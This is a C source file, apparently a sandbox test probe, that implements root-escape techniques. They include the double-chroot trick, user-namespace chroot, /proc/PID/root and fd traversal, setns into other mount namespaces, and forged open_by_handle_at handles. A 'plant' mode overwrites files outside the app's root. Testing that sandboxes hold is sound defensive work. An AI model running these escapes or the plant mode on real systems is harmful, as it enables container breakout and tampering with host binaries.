/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* An app that tries to leave its root, as an attacker would. Static, libc only.
 *
 *   escape probe TARGET…      for every trick, whether each TARGET (an absolute
 *                             path as seen from the root the trick reached) opens
 *   escape plant SRC TARGET…  for every trick, tries to replace each TARGET with
 *                             a copy of SRC (a file of the app's own root)
 *   escape handles            open_by_handle_at with a forged handle (inode 2) on
 *                             every mount point, in the app's root and after the
 *                             double-chroot trick
 *   escape caps               the capabilities of every process in /proc
 *
 * One line per trick and target: "TRICK TARGET RESULT", RESULT "readable",
 * "readable+writable", "planted" or the errno's name; "TRICK (setup) WHAT:ERRNO"
 * when a trick could not even start; in plant mode "TRICK (own-root) skipped" where
 * a trick ends in the app's own root (its files are the app's to change). handles
 * prints "handle MOUNTPOINT RESULT" (RESULT "opened:NAMES…", an errno's name, or
 * "open:ERRNO" when the mount point itself does not open), then the same as
 * "handle-chroot-fd …"; caps prints "cap PID NAME CAPEFF CAPPRM CAPBND".
 * The tricks, each in a child of its own:
 *   none            the path as it is (the app's own root: the control)
 *   dotdot          "/../../…" + the path
 *   symlink-up      through a symlink of the app's own to "../../…"
 *   chroot-fd       mkdir x; fd = open("/"); chroot(x); fchdir(fd); chdir("..") ×64;
 *                   chroot(".") (the classic escape, with CAP_SYS_CHROOT)
 *   chroot-cwd      the same without the fd: chroot(x) leaves the cwd outside
 *   userns-chroot   unshare(CLONE_NEWUSER) first (CAP_SYS_CHROOT of a new user
 *                   namespace), then chroot-fd
 *   fd:N            "../…" from each directory fd the app was given
 *   proc-root:PID, proc-root-up:PID, proc-cwd-up:PID, proc-fd-up:PID:N
 *                   through every other process's /proc/PID/root, its cwd and its
 *                   directory fds, then ".." up from there
 *   setns-mnt:PID   setns() into every other process's mount namespace
 * The last line is "done". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define UP "/../../../../../../../../../../../../../../../.." /* more ".." than any root is deep */

static char **targets;
static int n_targets;
static int plant_fd = -1; /* plant mode: the file to copy */

static const char *errname(int e)
{
  switch (e)
    {
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EACCES: return "EACCES";
    case EROFS: return "EROFS";
    case ETXTBSY: return "ETXTBSY";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case EBADF: return "EBADF";
    case EINVAL: return "EINVAL";
    case EXDEV: return "EXDEV";
    case ESTALE: return "ESTALE";
    case ENOSYS: return "ENOSYS";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case ELOOP: return "ELOOP";
    case EFAULT: return "EFAULT";
    default:;
    }
  static char buf[16];
  snprintf(buf, sizeof(buf), "E%d", e);
  return buf;
}

static const char *try_open(const char *path)
{
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return errname(errno);
  close(fd);
  fd = open(path, O_WRONLY | O_CLOEXEC); /* neither truncates nor writes */
  if (fd < 0)
    return "readable";
  close(fd);
  return "readable+writable";
}

/* Replaces path (a symlink or a busy binary too) with a copy of plant_fd. */
static const char *try_plant(const char *path)
{
  char tmp[PATH_MAX + 16], buf[65536];
  ssize_t n;
  snprintf(tmp, sizeof(tmp), "%s", path);
  char *slash = strrchr(tmp, '/');
  if (slash && slash != tmp)
    {
      *slash = '\0';
      (void) mkdir(tmp, 0755); /* /bin of a root that has none */
    }
  snprintf(tmp, sizeof(tmp), "%s.plant", path);
  int out = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (out < 0)
    return errname(errno);
  for (off_t off = 0; (n = pread(plant_fd, buf, sizeof(buf), off)) > 0; off += n)
    if (write(out, buf, (size_t) n) != n)
      break;
  close(out);
  if (rename(tmp, path) < 0)
    {
      int e = errno;
      unlink(tmp);
      return errname(e);
    }
  return "planted";
}

static struct stat own_root; /* our root, before any trick */

/* The targets as seen with prefix before each (relative to dirfd if not
 * absolute). Nothing is planted in our own root: the app owns it. */
static void visit(const char *trick, int dirfd, const char *prefix)
{
  char root[PATH_MAX + 32];
  struct stat st;
  if (dirfd >= 0)
    snprintf(root, sizeof(root), "/proc/self/fd/%d/%s/", dirfd, prefix);
  else
    snprintf(root, sizeof(root), "%s/", prefix);
  if (plant_fd >= 0 && stat(root, &st) == 0 && st.st_dev == own_root.st_dev && st.st_ino == own_root.st_ino)
    {
      printf("%s (own-root) skipped\n", trick);
      return;
    }
  for (int i = 0; i < n_targets; i++)
    {
      char path[PATH_MAX];
      const char *r;
      snprintf(path, sizeof(path), "%s%s", prefix, targets[i]);
      if (dirfd >= 0 && path[0] != '/')
        {
          char viafd[PATH_MAX + 32];
          snprintf(viafd, sizeof(viafd), "/proc/self/fd/%d/%s", dirfd, path);
          r = plant_fd >= 0 ? try_plant(viafd) : try_open(viafd);
        }
      else
        r = plant_fd >= 0 ? try_plant(path) : try_open(path);
      printf("%s %s %s\n", trick, targets[i], r);
    }
  fflush(stdout);
}

static void setup_failed(const char *trick, const char *what)
{
  printf("%s (setup) %s:%s\n", trick, what, errname(errno));
  fflush(stdout);
}

/* The double chroot: ends in the root of our mount namespace if chroot was all
 * that held us. */
static int chroot_escape(const char *trick, int keep_fd)
{
  static const char *const dirs[] = { "/.escape", "/tmp/.escape", "/out/.escape" };
  const char *dir = NULL;
  for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]) && !dir; i++)
    if (mkdir(dirs[i], 0700) == 0 || errno == EEXIST)
      dir = dirs[i];
  if (!dir)
    return setup_failed(trick, "mkdir"), -1;
  int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (chdir("/") < 0 || chroot(dir) < 0)
    return setup_failed(trick, "chroot"), -1;
  if (keep_fd && fchdir(fd) < 0)
    return setup_failed(trick, "fchdir"), -1;
  for (int i = 0; i < 64; i++)
    (void) chdir("..");
  if (chroot(".") < 0)
    return setup_failed(trick, "chroot ."), -1;
  return 0;
}

typedef void (*trick_fn)(const char *arg);

/* Runs a trick in a child (its chroot, setns or cwd stay there). */
static void run_trick(trick_fn fn, const char *arg)
{
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0)
    {
      fn(arg);
      fflush(stdout);
      _exit(0);
    }
  if (pid > 0)
    waitpid(pid, NULL, 0);
}

static void t_none(const char *arg) { (void) arg; visit("none", -1, ""); }
static void t_dotdot(const char *arg) { (void) arg; visit("dotdot", -1, UP); }

/* A symlink of our own whose target climbs: resolved in our root, it must stay there. */
static void t_symlink(const char *arg)
{
  static const char *const links[] = { "/.escape-up", "/tmp/.escape-up", "/out/.escape-up" };
  (void) arg;
  for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++)
    {
      (void) unlink(links[i]);
      if (symlink(UP + 1, links[i]) == 0)
        return visit("symlink-up", -1, links[i]);
    }
  setup_failed("symlink-up", "symlink");
}

static void t_chroot_fd(const char *arg)
{
  (void) arg;
  if (chroot_escape("chroot-fd", 1) == 0)
    visit("chroot-fd", -1, "");
}

static void t_chroot_cwd(const char *arg)
{
  (void) arg;
  if (chroot_escape("chroot-cwd", 0) == 0)
    visit("chroot-cwd", -1, "");
}

static void t_userns_chroot(const char *arg)
{
  (void) arg;
  if (unshare(CLONE_NEWUSER) < 0)
    setup_failed("userns-chroot", "unshare");
  else if (chroot_escape("userns-chroot", 1) == 0)
    visit("userns-chroot", -1, "");
}

static int is_pid(const char *s)
{
  return *s && strspn(s, "0123456789") == strlen(s);
}

/* Our directory fds: "../…" from each. */
static void t_own_fds(const char *arg)
{
  (void) arg;
  DIR *d = opendir("/proc/self/fd");
  struct dirent *de;
  int self = d ? dirfd(d) : -1;
  while (d && (de = readdir(d)))
    {
      struct stat st;
      int fd = atoi(de->d_name);
      char trick[64];
      if (!is_pid(de->d_name) || fd == self || fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))
        continue;
      snprintf(trick, sizeof(trick), "fd:%d", fd);
      visit(trick, fd, UP + 1);
    }
  if (d)
    closedir(d);
}

/* /proc/PID/root, cwd and fds of every other process. */
static void t_proc(const char *pid)
{
  char trick[64], prefix[PATH_MAX];
  snprintf(trick, sizeof(trick), "proc-root:%s", pid);
  snprintf(prefix, sizeof(prefix), "/proc/%s/root", pid);
  visit(trick, -1, prefix);
  snprintf(trick, sizeof(trick), "proc-root-up:%s", pid);
  snprintf(prefix, sizeof(prefix), "/proc/%s/root" UP, pid);
  visit(trick, -1, prefix);
  snprintf(trick, sizeof(trick), "proc-cwd-up:%s", pid);
  snprintf(prefix, sizeof(prefix), "/proc/%s/cwd" UP, pid);
  visit(trick, -1, prefix);
  char fds[64];
  snprintf(fds, sizeof(fds), "/proc/%s/fd", pid);
  DIR *d = opendir(fds);
  struct dirent *de;
  if (!d)
    {
      snprintf(trick, sizeof(trick), "proc-fd-up:%s", pid);
      setup_failed(trick, "opendir fd");
      return;
    }
  while ((de = readdir(d)))
    {
      struct stat st;
      snprintf(prefix, sizeof(prefix), "%s/%s", fds, de->d_name);
      if (!is_pid(de->d_name) || stat(prefix, &st) < 0 || !S_ISDIR(st.st_mode))
        continue;
      snprintf(trick, sizeof(trick), "proc-fd-up:%s:%s", pid, de->d_name);
      snprintf(prefix, sizeof(prefix), "%s/%s" UP, fds, de->d_name);
      visit(trick, -1, prefix);
    }
  closedir(d);
}

static void t_setns(const char *pid)
{
  char trick[64], path[64];
  snprintf(trick, sizeof(trick), "setns-mnt:%s", pid);
  snprintf(path, sizeof(path), "/proc/%s/ns/mnt", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return setup_failed(trick, "open");
  if (setns(fd, CLONE_NEWNS) < 0)
    return setup_failed(trick, "setns");
  visit(trick, -1, "");
}

/* Every process there was before we started forking, but us. */
static void for_other_pids(trick_fn fn)
{
  static char pids[1024][16];
  static int n = -1;
  if (n < 0)
    {
      DIR *d = opendir("/proc");
      struct dirent *de;
      char self[16];
      snprintf(self, sizeof(self), "%d", (int) getpid());
      for (n = 0; d && n < 1024 && (de = readdir(d));)
        if (is_pid(de->d_name) && strcmp(de->d_name, self) != 0 && strlen(de->d_name) < sizeof(pids[0]))
          strcpy(pids[n++], de->d_name);
      if (d)
        closedir(d);
    }
  for (int i = 0; fn && i < n; i++)
    run_trick(fn, pids[i]);
}

static void all_tricks(void)
{
  for_other_pids(NULL); /* the list only */
  run_trick(t_none, NULL);
  run_trick(t_dotdot, NULL);
  run_trick(t_symlink, NULL);
  run_trick(t_chroot_fd, NULL);
  run_trick(t_chroot_cwd, NULL);
  run_trick(t_userns_chroot, NULL);
  run_trick(t_own_fds, NULL);
  for_other_pids(t_proc);
  for_other_pids(t_setns);
  printf("done\n");
}

/* A handle no file system gave out: inode 2 (ext4's root directory),
 * generation 0, type FILEID_INO32_GEN. */
static const char *try_handle(int mount_fd)
{
  union
  {
    struct file_handle fh;
    char buf[sizeof(struct file_handle) + 8];
  } h;
  const unsigned int ino_gen[2] = { 2, 0 };
  h.fh.handle_bytes = sizeof(ino_gen);
  h.fh.handle_type = 1;
  memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
  int fd = open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return errname(errno);
  static char seen[256];
  DIR *d = fdopendir(fd);
  struct dirent *de;
  snprintf(seen, sizeof(seen), "opened:");
  while (d && (de = readdir(d)))
    if (de->d_name[0] != '.' && strlen(seen) + strlen(de->d_name) + 2 < sizeof(seen))
      strcat(strcat(seen, de->d_name), ",");
  if (d)
    closedir(d);
  else
    close(fd);
  return seen;
}

/* mountinfo's 5th field, its octal escapes (\040) undone. */
static int mount_point(char *line, char *out, size_t size)
{
  char *p = line;
  for (int i = 0; i < 4 && p; i++)
    p = (p = strchr(p, ' ')) ? p + 1 : NULL;
  if (!p)
    return -1;
  size_t n = 0;
  for (; *p && *p != ' ' && n + 1 < size; p++)
    if (p[0] == '\\' && p[1] >= '0' && p[1] <= '7' && p[2] && p[3])
      {
        out[n++] = (char) ((p[1] - '0') * 64 + (p[2] - '0') * 8 + (p[3] - '0'));
        p += 3;
      }
    else
      out[n++] = *p;
  out[n] = '\0';
  return 0;
}

static void handles_here(const char *trick)
{
  char line[4096], mp[PATH_MAX];
  FILE *f = fopen("/proc/self/mountinfo", "re");
  if (!f)
    return setup_failed(trick, "mountinfo");
  while (fgets(line, sizeof(line), f))
    {
      if (mount_point(line, mp, sizeof(mp)) < 0)
        continue;
      int fd = open(mp, O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        printf("%s %s open:%s\n", trick, mp, errname(errno));
      else
        printf("%s %s %s\n", trick, mp, try_handle(fd));
      if (fd >= 0)
        close(fd);
    }
  fclose(f);
}

static void t_handles_escaped(const char *arg)
{
  (void) arg;
  if (chroot_escape("handle-chroot-fd", 1) == 0)
    handles_here("handle-chroot-fd");
}

static int escape_handles(void)
{
  handles_here("handle");
  run_trick(t_handles_escaped, NULL);
  printf("done\n");
  return 0;
}

/* "CAP PID COMM CapEff CapPrm CapBnd" for every process we can see. */
static int escape_caps(void)
{
  DIR *d = opendir("/proc");
  struct dirent *de;
  while (d && (de = readdir(d)))
    {
      char path[300], line[256], comm[64] = "?", eff[32] = "?", prm[32] = "?", bnd[32] = "?";
      if (!is_pid(de->d_name))
        continue;
      snprintf(path, sizeof(path), "/proc/%s/status", de->d_name);
      FILE *f = fopen(path, "re");
      while (f && fgets(line, sizeof(line), f))
        {
          (void) (sscanf(line, "Name: %63s", comm) || sscanf(line, "CapEff: %31s", eff) ||
                  sscanf(line, "CapPrm: %31s", prm) || sscanf(line, "CapBnd: %31s", bnd));
        }
      if (f)
        fclose(f);
      printf("cap %s %s %s %s %s\n", de->d_name, comm, eff, prm, bnd);
    }
  if (d)
    closedir(d);
  printf("done\n");
  return 0;
}

int main(int argc, char **argv)
{
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (stat("/", &own_root) < 0)
    return 1;
  if (argc >= 3 && strcmp(argv[1], "probe") == 0)
    {
      targets = argv + 2;
      n_targets = argc - 2;
      all_tricks();
      return 0;
    }
  if (argc >= 4 && strcmp(argv[1], "plant") == 0)
    {
      if ((plant_fd = open(argv[2], O_RDONLY | O_CLOEXEC)) < 0)
        {
          perror(argv[2]);
          return 1;
        }
      targets = argv + 3;
      n_targets = argc - 3;
      all_tricks();
      return 0;
    }
  if (argc == 2 && strcmp(argv[1], "handles") == 0)
    return escape_handles();
  if (argc == 2 && strcmp(argv[1], "caps") == 0)
    return escape_caps();
  fprintf(stderr, "usage: escape probe TARGET… | plant SRC TARGET… | handles | caps\n");
  return 2;
}
